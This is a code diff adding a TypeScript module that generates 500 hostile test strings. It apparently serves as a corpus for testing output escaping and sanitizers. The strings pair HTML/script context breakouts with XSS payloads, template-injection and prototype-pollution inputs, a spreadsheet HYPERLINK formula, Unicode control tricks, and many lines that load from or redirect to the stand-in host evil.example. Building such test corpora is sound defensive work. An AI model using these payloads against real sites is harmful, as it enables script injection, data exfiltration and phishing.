@@ -1,0 +1,67 @@
+// Five hundred texts that want to be run, drawn, followed or believed: every beginning that could break out of where a text stands,
+// with every thing that could then happen. Each calls home by the number it has, at a host that is not ours.
+const beginnings = [
+  '',
+  '">',
+  "'>",
+  '</script>',
+  '-->',
+  ']]>',
+  '</style>',
+  '</title>',
+  '</textarea>',
+  '\\"',
+  '`)',
+  '\u2028;',
+]
+
+const things = [
+  '<script>hit(#)</script>',
+  '<script src="//evil.example/#.js"></script>',
+  '<img src=x onerror=hit(#)>',
+  '<img src="https://evil.example/#.png">',
+  '<svg onload=hit(#)>',
+  '<svg><animate onbegin=hit(#) attributeName=x dur=1s>',
+  '<svg><script>hit(#)</script></svg>',
+  '<iframe srcdoc="<script>parent.hit(#)</script>"></iframe>',
+  '<iframe src="https://evil.example/#"></iframe>',
+  '<iframe src="javascript:parent.hit(#)"></iframe>',
+  '<object data="https://evil.example/#"></object>',
+  '<embed src="//evil.example/#.swf">',
+  '<link rel=stylesheet href="https://evil.example/#.css">',
+  '<style>@import url("//evil.example/#.css");*{display:none}</style>',
+  '<style>body{background:url(https://evil.example/#)}</style>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example/#">',
+  '<base href="https://evil.example/#/">',
+  '<a href="javascript:hit(#)" autofocus onfocus=hit(#)>press</a>',
+  '<input autofocus onfocus=hit(#)>',
+  '<details open ontoggle=hit(#)>',
+  '<video><source onerror=hit(#)></video>',
+  '<body onload=hit(#)>',
+  '<marquee onstart=hit(#)>',
+  '<form action="https://evil.example/#"><input type=submit></form>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=hit(#)>',
+  '<template><script>hit(#)</script></template>',
+  '<x style="position:fixed;inset:0;background:url(//evil.example/#)">',
+  'javascript:hit(#)//',
+  'data:text/html,<script>parent.hit(#)</script>',
+  '//evil.example/#',
+  'https://evil.example/#',
+  '\\\\evil.example\\#',
+  "');hit(#);//",
+  '";hit(#);//',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to stand there
+  '${hit(#)}',
+  "{{constructor.constructor('hit(#)')()}}",
+  '<%= hit(#) %>',
+  '{"__proto__":{"polluted":"#"}}',
+  '__proto__[polluted]=#',
+  '=HYPERLINK("https://evil.example/#","press")',
+  '\u202e#kcart\u202c\u200b\u0008\u001b[31m',
+  '\ufeff<ſcript>hit(#)</ſcript>',
+]
+
+export const hostileStrings: readonly string[] = beginnings
+  .flatMap((beginning) => things.map((thing) => beginning + thing))
+  .slice(0, 500)
+  .map((text, number) => text.replaceAll('#', String(number + 1)))
